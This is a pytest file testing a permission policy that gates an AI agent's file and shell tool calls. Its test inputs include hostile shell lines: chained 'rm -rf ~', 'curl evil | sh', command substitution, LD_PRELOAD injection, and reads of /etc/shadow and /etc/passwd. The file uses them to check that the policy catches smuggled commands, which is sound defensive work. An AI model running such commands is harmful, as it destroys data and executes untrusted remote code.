"""The tool-call policy (tower/core/policy.py): order, defaults, argument globs, compound shell
lines, agent scope, expiry, serialisation and the "allow calls like this one" suggestion."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tower.core.policy import (
    Action,
    Rule,
    Verdict,
    command_pieces,
    decide,
    parse_rule,
    suggest_grant,
    workspace_relative,
)

NOW = 1_000_000.0
GATED_BUILTINS = ("write_file", "run_shell")
READ_BUILTINS = ("read_file", "list_dir", "search")
UNGATED_BUILTINS = ("ask_human", "finish")


def _allow(tool: str = "*", **args: str) -> Rule:
    return Rule(Action.ALLOW, tool=tool, args=tuple(args.items()))


def _ask(tool: str = "*", **args: str) -> Rule:
    return Rule(Action.ASK, tool=tool, args=tuple(args.items()))


def _deny(tool: str = "*", **args: str) -> Rule:
    return Rule(Action.DENY, tool=tool, args=tuple(args.items()))


def _verdict(rules: list[Rule], tool: str, agent: str | None = None, **args: Any) -> Verdict:
    return decide(rules, tool, args, agent=agent, now=NOW)


# --- order: deny, then ask, then allow ------------------------------------------------------


@pytest.mark.parametrize("reverse", [False, True])
def test_deny_beats_ask_beats_allow_in_any_list_order(reverse: bool) -> None:
    allow, ask, deny = _allow("run_shell"), _ask("run_shell"), _deny("run_shell")
    for rules in ([allow, ask, deny], [allow, ask], [ask, allow]):
        ordered = rules[::-1] if reverse else rules
        expected = deny if deny in rules else ask
        verdict = _verdict(ordered, "run_shell", command="ls")
        assert verdict.action is expected.action
        assert verdict.rule is expected


def test_deny_on_a_tool_glob_beats_an_allow_on_the_exact_tool() -> None:
    exact_allow = _allow("git__push")
    glob_deny = _deny("git__*")
    for rules in ([exact_allow, glob_deny], [glob_deny, exact_allow]):
        verdict = _verdict(rules, "git__push")
        assert verdict.action is Action.DENY
        assert verdict.rule is glob_deny
    # The glob only reaches the tools it names.
    assert _verdict([exact_allow, glob_deny], "time__now").action is Action.ASK


def test_ask_on_an_argument_beats_a_broad_allow() -> None:
    rules = [_allow("run_shell", command="git*"), _ask("run_shell", command="git push*")]
    assert _verdict(rules, "run_shell", command="git push origin main").action is Action.ASK
    assert _verdict(rules, "run_shell", command="git status").action is Action.ALLOW


def test_a_rule_names_itself_in_the_verdict() -> None:
    rule = Rule(Action.DENY, tool="write_file", source="tower.toml policy.deny[0]", id="deny0")
    verdict = _verdict([rule], "write_file", path="a.txt", content="x")
    assert verdict.rule is rule
    assert "tower.toml policy.deny[0]" in verdict.describe()
    assert "deny write_file" in verdict.describe()


# --- the least-privilege default ------------------------------------------------------------


@pytest.mark.parametrize("tool", READ_BUILTINS)
def test_reading_tools_are_allowed_by_default(tool: str) -> None:
    verdict = _verdict([], tool, path="src/a.py")
    assert verdict.action is Action.ALLOW
    assert verdict.rule is None


@pytest.mark.parametrize("tool", GATED_BUILTINS)
def test_writing_and_the_shell_ask_by_default(tool: str) -> None:
    verdict = _verdict([], tool, path="a.txt", content="x", command="ls")
    assert verdict.action is Action.ASK
    assert verdict.rule is None
    assert verdict.describe()  # the inbox shows why it asks


@pytest.mark.parametrize("tool", ["git__git_status", "time__get_current_time", "fs__read"])
def test_mcp_tools_ask_by_default(tool: str) -> None:
    # Even an MCP tool that sounds read-only: tower cannot know what a server does.
    assert _verdict([], tool).action is Action.ASK


def test_an_unknown_tool_asks_by_default() -> None:
    assert _verdict([], "delete_everything").action is Action.ASK


@pytest.mark.parametrize("tool", UNGATED_BUILTINS)
def test_talking_to_the_human_and_finishing_are_never_gated(tool: str) -> None:
    rules = [_deny("*"), _ask("*"), Rule(Action.DENY, tool=tool, agent="a")]
    verdict = _verdict(rules, tool, agent="a", question="?", answer="done")
    assert verdict.action is Action.ALLOW
    assert verdict.rule is None


def test_a_tool_wide_deny_still_blocks_reading() -> None:
    assert _verdict([_deny("read_file")], "read_file", path="x").action is Action.DENY
    assert _verdict([_deny("*")], "list_dir", path=".").action is Action.DENY


# --- argument globs and path normalisation --------------------------------------------------


@pytest.mark.parametrize(
    ("path", "allowed"),
    [
        ("src/app.py", True),
        ("src/deep/er/x.py", True),
        ("./src/app.py", True),
        ("src/./a/../b.py", True),
        ("src//app.py", True),
        ("src/../tower.toml", False),
        ("src/../../etc/passwd", False),
        ("src\\..\\tower.toml", False),
        ("lib/app.py", False),
        ("srcx/app.py", False),
    ],
)
def test_path_globs_match_the_normalised_path(path: str, allowed: bool) -> None:
    verdict = _verdict([_allow("write_file", path="src/**")], "write_file", path=path, content="")
    assert (verdict.action is Action.ALLOW) is allowed
    if not allowed:
        assert verdict.action is Action.ASK  # falls through to the default


@pytest.mark.parametrize("glob", ["*", "**", "../*", "../**", "*/*", "/*", "/**"])
@pytest.mark.parametrize("path", ["../x", "..", "../../x", "sub/../../x", "/etc/passwd", "/x"])
def test_an_allow_never_covers_a_path_leaving_the_workspace(glob: str, path: str) -> None:
    verdict = _verdict([_allow("write_file", path=glob)], "write_file", path=path, content="")
    assert verdict.action is Action.ASK


def test_deny_on_a_path_sees_through_dots() -> None:
    rules = [_deny("read_file", path="tower.toml"), _deny("read_file", path=".env*")]
    for path in ("tower.toml", "./tower.toml", "src/../tower.toml", "a/b/../../.env.local"):
        assert _verdict(rules, "read_file", path=path).action is Action.DENY, path
    assert _verdict(rules, "read_file", path="src/tower.toml").action is Action.ALLOW


def test_a_rule_with_an_argument_needs_that_argument() -> None:
    rule = _deny("run_shell", command="*")
    assert _verdict([rule], "run_shell", cmd="rm -rf /").action is Action.ASK
    assert _verdict([rule], "run_shell").action is Action.ASK
    assert _verdict([rule], "run_shell", command="ls").action is Action.DENY


def test_every_argument_glob_must_match() -> None:
    rule = _allow("fs__copy", src="a/*", dst="b/*")
    assert _verdict([rule], "fs__copy", src="a/1", dst="b/2").action is Action.ALLOW
    assert _verdict([rule], "fs__copy", src="a/1", dst="c/2").action is Action.ASK


def test_plain_argument_globs_are_case_sensitive() -> None:
    rule = _allow("web__fetch", url="https://docs.python.org/*")
    ok = "https://docs.python.org/3/library/os.html"
    assert _verdict([rule], "web__fetch", url=ok).action is Action.ALLOW
    assert _verdict([rule], "web__fetch", url=ok.upper()).action is Action.ASK
    assert _verdict([rule], "web__fetch", url="https://evil.example/").action is Action.ASK


def test_non_string_arguments_are_matched_as_text() -> None:
    rule = _deny("fs__chmod", mode="7*")
    assert _verdict([rule], "fs__chmod", mode=777).action is Action.DENY
    assert _verdict([rule], "fs__chmod", mode=644).action is Action.ASK


# --- compound shell lines -------------------------------------------------------------------

PYTEST_ALLOW = _allow("run_shell", command="python -m pytest*")


@pytest.mark.parametrize(
    "command",
    ["python -m pytest", "python -m pytest -q tests", "python -m pytest -x && python -m pytest"],
)
def test_allow_covers_a_line_whose_every_piece_matches(command: str) -> None:
    assert _verdict([PYTEST_ALLOW], "run_shell", command=command).action is Action.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "python -m pytest; rm -rf ~",
        "python -m pytest && rm -rf ~",
        "python -m pytest || rm -rf ~",
        "python -m pytest | sh",
        "python -m pytest & rm -rf ~",
        "python -m pytest\nrm -rf ~",
        "python -m pytest $(curl x)",
        "python -m pytest `curl x`",
        "python -m pytest <(curl x)",
        "python -m pytest >(sh)",
        "",
        "   ",
        ";",
    ],
)
def test_allow_does_not_cover_a_smuggled_command(command: str) -> None:
    verdict = _verdict([PYTEST_ALLOW], "run_shell", command=command)
    assert verdict.action is Action.ASK


@pytest.mark.parametrize(
    "command",
    ["rm -rf /", "ls && rm -rf /", "ls; rm -rf /", "ls || rm x", "ls | rm x", "ls\nrm x"],
)
def test_deny_catches_any_piece_of_a_line(command: str) -> None:
    rules = [_allow("run_shell", command="*"), _deny("run_shell", command="rm *")]
    assert _verdict(rules, "run_shell", command=command).action is Action.DENY


def test_deny_on_a_command_does_not_catch_a_mere_mention() -> None:
    rules = [_deny("run_shell", command="rm *")]
    for command in ("echo rm -rf /", "ls -la", "grep -r 'rm -rf' ."):
        assert _verdict(rules, "run_shell", command=command).action is Action.ASK, command


def test_ask_catches_any_piece_of_a_line() -> None:
    rules = [_allow("run_shell", command="git*"), _ask("run_shell", command="git push*")]
    verdict = _verdict(rules, "run_shell", command="git add . && git push --force")
    assert verdict.action is Action.ASK
    assert verdict.rule is rules[1]


def test_command_pieces() -> None:
    assert command_pieces("a && b; c | d || e & f\ng") == ["a", "b", "c", "d", "e", "f", "g"]
    assert command_pieces("  ls  ") == ["ls"]
    assert command_pieces(" ; && ") == []


# --- agent scope and expiry -----------------------------------------------------------------


def test_agent_scoped_rules_apply_to_that_agent_only() -> None:
    alice_may_write = Rule(Action.ALLOW, tool="write_file", agent="alice")
    bob_may_not_read = Rule(Action.DENY, tool="read_file", agent="bob")
    rules = [alice_may_write, bob_may_not_read]
    assert _verdict(rules, "write_file", agent="alice", path="a").action is Action.ALLOW
    assert _verdict(rules, "write_file", agent="bob", path="a").action is Action.ASK
    assert _verdict(rules, "write_file", agent=None, path="a").action is Action.ASK
    assert _verdict(rules, "read_file", agent="bob", path="a").action is Action.DENY
    assert _verdict(rules, "read_file", agent="alice", path="a").action is Action.ALLOW
    assert _verdict(rules, "read_file", agent="Bob", path="a").action is Action.ALLOW


def test_a_rule_without_an_agent_applies_to_every_agent() -> None:
    rule = _allow("run_shell")
    for agent in ("alice", "bob", None):
        assert _verdict([rule], "run_shell", agent=agent, command="ls").action is Action.ALLOW


def test_a_rule_is_active_until_its_expiry_and_not_at_it() -> None:
    rule = Rule(Action.ALLOW, tool="run_shell", expires=NOW)
    assert rule.active(NOW - 0.001)
    assert not rule.active(NOW)
    assert not rule.active(NOW + 1)
    assert Rule(Action.ALLOW).active(NOW * 1000)  # no expiry: the whole session


def test_decide_judges_expiry_by_the_time_it_is_given() -> None:
    grant = Rule(Action.ALLOW, tool="run_shell", expires=NOW)
    args = {"command": "make"}
    assert decide([grant], "run_shell", args, now=NOW - 0.5).action is Action.ALLOW
    assert decide([grant], "run_shell", args, now=NOW).action is Action.ASK
    assert decide([grant], "run_shell", args, now=NOW + 60).action is Action.ASK


def test_an_expired_deny_no_longer_blocks() -> None:
    deny = Rule(Action.DENY, tool="write_file", expires=NOW)
    allow = _allow("write_file")
    assert decide([deny, allow], "write_file", {}, now=NOW - 1).action is Action.DENY
    verdict = decide([deny, allow], "write_file", {}, now=NOW)
    assert verdict.action is Action.ALLOW
    assert verdict.rule is allow


# --- serialisation and parsing --------------------------------------------------------------


def test_rule_round_trips_through_a_dict_and_json() -> None:
    rule = Rule(
        Action.ALLOW,
        tool="run_shell",
        args=(("command", "python -m pytest*"), ("path", "src/**")),
        agent="alice",
        expires=NOW + 600,
        source="granted by human on i3",
        id="g1",
    )
    assert Rule.from_dict(rule.to_dict()) == rule
    assert Rule.from_dict(json.loads(json.dumps(rule.to_dict()))) == rule


def test_rule_from_a_minimal_dict_gets_the_defaults() -> None:
    rule = Rule.from_dict({"action": "deny"})
    assert rule == Rule(Action.DENY)
    assert rule.tool == "*"
    assert rule.args == ()
    assert rule.agent is None
    assert rule.expires is None
    with pytest.raises(ValueError):
        Rule.from_dict({"action": "maybe"})


_TEXT = st.text(alphabet="abc*?/._- ", max_size=8)


@given(
    action=st.sampled_from(list(Action)),
    tool=_TEXT,
    args=st.dictionaries(st.text(alphabet="abcdef_", min_size=1, max_size=6), _TEXT, max_size=3),
    agent=st.none() | st.text(max_size=5),
    expires=st.none() | st.floats(allow_nan=False, allow_infinity=False),
    source=st.text(max_size=10),
    rid=st.text(max_size=4),
)
def test_any_rule_round_trips(
    action: Action,
    tool: str,
    args: dict[str, str],
    agent: str | None,
    expires: float | None,
    source: str,
    rid: str,
) -> None:
    rule = Rule(action, tool, tuple(args.items()), agent, expires, source, rid)
    assert Rule.from_dict(json.loads(json.dumps(rule.to_dict()))) == rule


def test_parse_rule_from_a_string_and_a_table() -> None:
    plain = parse_rule("git__*", Action.DENY, "tower.toml policy.deny[0]", "deny0")
    assert plain == Rule(Action.DENY, tool="git__*", source="tower.toml policy.deny[0]", id="deny0")
    table = parse_rule(
        {"tool": "run_shell", "args": {"command": "make*"}, "agent": "builder"},
        Action.ALLOW,
        "tower.toml policy.allow[1]",
        "allow1",
    )
    assert table.args == (("command", "make*"),)
    assert table.agent == "builder"
    assert _verdict([table], "run_shell", agent="builder", command="make test").action is (
        Action.ALLOW
    )
    assert _verdict([table], "run_shell", agent="other", command="make").action is Action.ASK
    bare = parse_rule({"args": {"path": "docs/**"}}, Action.ASK, "s", "ask0")
    assert bare.tool == "*"


# --- "allow calls like this one" ------------------------------------------------------------


@pytest.mark.parametrize(
    ("tool", "args", "expected"),
    [
        ("write_file", {"path": "src/app/models.py", "content": "x = 1"}, {"path": "src/app/**"}),
        ("write_file", {"path": "notes.txt", "content": ""}, {"path": "notes.txt"}),
        ("write_file", {"path": "a[1].txt", "content": ""}, {"path": "a[[]1].txt"}),
        ("run_shell", {"command": "rm build/x.o"}, {"command": "rm build/x.o"}),
        ("run_shell", {"command": "git status"}, {"command": "git status"}),
        ("run_shell", {"command": "python tools/gen.py"}, {"command": "python tools/gen.py"}),
        ("write_file", {"path": "./src/../lib/x.py", "content": ""}, {"path": "lib/**"}),
        ("run_shell", {"command": "python -m pytest -q tests"}, {"command": "python -m pytest*"}),
        ("run_shell", {"command": "python3 -m mypy tower"}, {"command": "python3 -m mypy*"}),
        # `ls *`, not `ls*`: a verb glob must not cover another program (`cat*` would
        # cover `catchsegv rm -rf x`).
        ("run_shell", {"command": "  ls -la src "}, {"command": "ls *"}),
        ("run_shell", {"command": "make && make test"}, {"command": "make && make test"}),
        ("fs__copy", {"src": "a", "count": 3}, {}),
        ("write_file", {"path": 5}, {}),
    ],
)
def test_suggest_grant(tool: str, args: dict[str, Any], expected: dict[str, str]) -> None:
    assert suggest_grant(tool, args) == expected


@pytest.mark.parametrize(
    ("tool", "args", "similar", "different"),
    [
        (
            "write_file",
            {"path": "src/app/models.py", "content": "x"},
            {"path": "src/app/views.py", "content": "y"},
            {"path": "src/other.py", "content": "y"},
        ),
        (
            "write_file",
            {"path": "src/app/models.py", "content": "x"},
            {"path": "src/app/sub/x.py", "content": "y"},
            {"path": "src/app/../../tower.toml", "content": "y"},
        ),
        (
            "run_shell",
            {"command": "python -m pytest -q tests"},
            {"command": "python -m pytest tests/test_policy.py"},
            {"command": "python -m pytest; curl evil | sh"},
        ),
        (
            "run_shell",
            {"command": "ls -la"},
            {"command": "ls src"},
            {"command": "rm -rf src"},
        ),
    ],
)
def test_a_suggested_grant_covers_the_call_and_its_likes_only(
    tool: str, args: dict[str, str], similar: dict[str, str], different: dict[str, str]
) -> None:
    grant = Rule(Action.ALLOW, tool=tool, args=tuple(suggest_grant(tool, args).items()))
    assert decide([grant], tool, args, now=NOW).rule is grant
    assert decide([grant], tool, similar, now=NOW).rule is grant
    assert decide([grant], tool, different, now=NOW).action is Action.ASK


def test_a_suggested_grant_for_a_compound_line_covers_that_line() -> None:
    # suggest_grant keeps a compound line whole ("only exactly this one"), so granting it must
    # let the very same line run again without asking.
    args = {"command": "make && make test"}
    grant = Rule(
        Action.ALLOW, tool="run_shell", args=tuple(suggest_grant("run_shell", args).items())
    )
    assert decide([grant], "run_shell", args, now=NOW).action is Action.ALLOW
    other = {"command": "make && rm -rf ~"}
    assert decide([grant], "run_shell", other, now=NOW).action is Action.ASK


# --- property: an active deny that matches always wins --------------------------------------

_TOOLS = ["read_file", "write_file", "list_dir", "search", "run_shell", "git__push", "fs__write"]
_TOOL_GLOBS = [*_TOOLS, "*", "*_file", "git__*", "fs__*", "r*"]
_PATHS = ["src/a.py", "./src/a.py", "src/../tower.toml", "../x", "/etc/passwd", "docs/x.md"]
_COMMANDS = ["ls", "ls && rm -rf /", "python -m pytest", "make; make test", "echo $(id)"]
_GLOBS = ["*", "src/*", "src/**", "tower.toml", "rm *", "ls*", "python -m pytest*", "x", ""]
_AGENTS = [None, "alice", "bob"]


@st.composite
def _rules(draw: st.DrawFn) -> Rule:
    names = draw(st.lists(st.sampled_from(["path", "command", "query"]), unique=True, max_size=2))
    return Rule(
        action=draw(st.sampled_from(list(Action))),
        tool=draw(st.sampled_from(_TOOL_GLOBS)),
        args=tuple((n, draw(st.sampled_from(_GLOBS))) for n in names),
        agent=draw(st.sampled_from(_AGENTS)),
        expires=draw(st.none() | st.floats(NOW - 100, NOW + 100)),
    )


_CALL_ARGS = st.fixed_dictionaries(
    {},
    optional={
        "path": st.sampled_from(_PATHS),
        "command": st.sampled_from(_COMMANDS),
        "query": st.sampled_from(["x", "y"]),
    },
)


# Which deny globs match which value, written out by hand (the oracle for the property below,
# instead of Rule.matches itself). Globs not listed for a value do not match it.
_DENY_TOOL_GLOBS = {
    "read_file": {"read_file", "*", "*_file", "r*"},
    "write_file": {"write_file", "*", "*_file"},
    "list_dir": {"list_dir", "*"},
    "search": {"search", "*"},
    "run_shell": {"run_shell", "*", "r*"},
    "git__push": {"git__push", "*", "git__*"},
    "fs__write": {"fs__write", "*", "fs__*"},
}
_DENY_ARG_GLOBS = {
    # Paths are matched once normalised: `./src/a.py` is `src/a.py`, `src/../tower.toml` is
    # `tower.toml` (so not under `src/`); `*` crosses `/`.
    "path": {
        "src/a.py": {"*", "src/*", "src/**"},
        "./src/a.py": {"*", "src/*", "src/**"},
        "src/../tower.toml": {"*", "tower.toml"},
        "../x": {"*"},
        "/etc/passwd": {"*"},
        "docs/x.md": {"*"},
    },
    # A deny matches the whole line or any one of its pieces.
    "command": {
        "ls": {"*", "ls*"},
        "ls && rm -rf /": {"*", "ls*", "rm *"},
        "python -m pytest": {"*", "python -m pytest*"},
        "make; make test": {"*"},
        "echo $(id)": {"*"},
    },
    "query": {"x": {"*", "x"}, "y": {"*"}},
}


def _deny_hits(rule: Rule, tool: str, args: dict[str, str], agent: str | None) -> bool:
    """The expected verdict of one rule on one call, from the tables above."""
    return (
        rule.action is Action.DENY
        and (rule.expires is None or rule.expires > NOW)
        and rule.tool in _DENY_TOOL_GLOBS[tool]
        and rule.agent in (None, agent)
        and all(n in args and g in _DENY_ARG_GLOBS[n][args[n]] for n, g in rule.args)
    )


def test_a_lone_deny_decides_as_the_hand_written_tables_say() -> None:
    # Every entry of the tables, not a random sample: the property below draws combinations.
    for tool in _TOOLS:
        for glob in _TOOL_GLOBS:
            verdict = decide([_deny(glob)], tool, {}, now=NOW)
            assert (verdict.action is Action.DENY) == (glob in _DENY_TOOL_GLOBS[tool]), (tool, glob)
    values = {"path": _PATHS, "command": _COMMANDS, "query": ["x", "y"]}
    for name, vals in values.items():
        for value in vals:
            for glob in _GLOBS:
                verdict = decide([_deny(**{name: glob})], "run_shell", {name: value}, now=NOW)
                expected = glob in _DENY_ARG_GLOBS[name][value]
                assert (verdict.action is Action.DENY) == expected, (name, value, glob)


@given(
    rules=st.lists(_rules(), max_size=8),
    tool=st.sampled_from(_TOOLS),
    args=_CALL_ARGS,
    agent=st.sampled_from(_AGENTS),
)
def test_property_deny_wins_exactly_when_an_active_deny_matches(
    rules: list[Rule], tool: str, args: dict[str, str], agent: str | None
) -> None:
    for rule in rules:  # each rule alone, so no earlier deny hides a wrong verdict
        alone = decide([rule], tool, args, agent=agent, now=NOW)
        assert (alone.action is Action.DENY) == _deny_hits(rule, tool, args, agent), rule
    verdict = decide(rules, tool, args, agent=agent, now=NOW)
    live_denies = [r for r in rules if _deny_hits(r, tool, args, agent)]
    assert (verdict.action is Action.DENY) == bool(live_denies)
    if live_denies:
        assert verdict.rule == live_denies[0]  # the first matching deny, in file order
    if verdict.rule is not None:
        assert verdict.rule in rules
        assert verdict.rule.active(NOW)
        assert verdict.rule.action is verdict.action


@given(
    rules=st.lists(_rules(), max_size=8),
    tool=st.sampled_from(_TOOLS),
    args=_CALL_ARGS,
    agent=st.sampled_from(_AGENTS),
    where=st.integers(min_value=0, max_value=8),
    tool_glob=st.sampled_from(["exact", "*", "prefix"]),
    scoped=st.booleans(),
    expires_in=st.none() | st.floats(0.001, 1e6),
)
def test_property_a_matching_deny_anywhere_in_the_list_denies(
    rules: list[Rule],
    tool: str,
    args: dict[str, str],
    agent: str | None,
    where: int,
    tool_glob: str,
    scoped: bool,
    expires_in: float | None,
) -> None:
    # A deny built to match the call without going through Rule.matches: the tool's name (or a
    # glob that surely covers it), the call's agent, and the call's own plain argument.
    glob = {"exact": tool, "*": "*", "prefix": tool[:2] + "*"}[tool_glob]
    deny_args = (("query", args["query"]),) if "query" in args else ()
    deny = Rule(
        Action.DENY,
        tool=glob,
        args=deny_args,
        agent=agent if scoped else None,
        expires=None if expires_in is None else NOW + expires_in,
    )
    mixed = [*rules[:where], deny, *rules[where:]]
    assert decide(mixed, tool, args, agent=agent, now=NOW).action is Action.DENY
    # Without any deny rule at all, nothing is ever denied.
    no_denies = [r for r in rules if r.action is not Action.DENY]
    assert decide(no_denies, tool, args, agent=agent, now=NOW).action is not Action.DENY


# --- deny rules see through shell spelling; allow rules refuse redirections ----------------


@pytest.mark.parametrize(
    "command",
    [
        r"\rm -rf /",
        "'rm' -rf /",
        "(rm -rf /)",
        "sudo FOO=1 rm -rf /",
        "echo $(rm -rf x)",
        "echo `rm -rf x`",
        "ls && nohup rm -rf x",
    ],
)
def test_deny_catches_disguised_commands(command: str) -> None:
    deny = [Rule(Action.DENY, "run_shell", (("command", "rm *"),))]
    assert decide(deny, "run_shell", {"command": command}).action is Action.DENY


@pytest.mark.parametrize(
    ("command", "action"),
    [
        ("python -m pytest -q 2>&1", Action.ALLOW),
        ("python -m pytest >/dev/null 2>&1", Action.ALLOW),
        ("python -m pytest > ~/.bashrc", Action.ASK),
        ("python -m pytest < /etc/shadow", Action.ASK),
    ],
)
def test_allow_refuses_redirections_that_could_write(command: str, action: Action) -> None:
    allow = [Rule(Action.ALLOW, "run_shell", (("command", "python -m pytest*"),))]
    assert decide(allow, "run_shell", {"command": command}).action is action


def test_a_literal_grant_covers_exactly_its_line() -> None:
    line = "make && make test [fast]"
    glob = suggest_grant("run_shell", {"command": line})["command"]
    allow = [Rule(Action.ALLOW, "run_shell", (("command", glob),))]
    assert decide(allow, "run_shell", {"command": line}).action is Action.ALLOW
    assert decide(allow, "run_shell", {"command": line + "; rm -rf ~"}).action is Action.ASK
    assert decide(allow, "run_shell", {"command": "make && make test f"}).action is Action.ASK


def test_absolute_paths_inside_the_workspace_meet_relative_rules() -> None:
    deny = [Rule(Action.DENY, "read_file", (("path", "secrets/**"),))]
    seen = workspace_relative({"path": "/srv/ws/secrets/key.txt"}, "/srv/ws")
    assert decide(deny, "read_file", seen).action is Action.DENY
    sibling = workspace_relative({"path": "/srv/ws-evil/secrets/key.txt"}, "/srv/ws")
    assert sibling["path"] == "/srv/ws-evil/secrets/key.txt"


@pytest.mark.parametrize(
    "command",
    [
        "if :; then rm -rf ~; fi",
        "for f in x; do rm -rf ~; done",
        "! rm -rf ~",
        "nice -n 5 rm -rf ~",
        "timeout 5 rm -rf ~",
        "/bin/rm -rf ~",
        "sudo -u root rm -rf ~",
    ],
)
def test_deny_sees_commands_behind_shell_keywords_and_wrappers(command: str) -> None:
    deny = [Rule(Action.DENY, "run_shell", (("command", "rm *"),))]
    assert decide(deny, "run_shell", {"command": command}).action is Action.DENY


@pytest.mark.parametrize(
    "command",
    ["LD_PRELOAD=./evil.so pytest", "PATH=.:$PATH pytest", "sudo pytest", "pytest >&2x"],
)
def test_allow_does_not_look_through_assignments_wrappers_or_odd_redirects(command: str) -> None:
    allow = [Rule(Action.ALLOW, "run_shell", (("command", "pytest*"),))]
    assert decide(allow, "run_shell", {"command": command}).action is Action.ASK


def test_absolute_paths_with_doubled_slashes_meet_relative_rules() -> None:
    deny = [Rule(Action.DENY, "read_file", (("path", "secrets/**"),))]
    seen = workspace_relative({"path": "/srv/ws//secrets/./k"}, "/srv/ws")
    assert decide(deny, "read_file", seen).action is Action.DENY
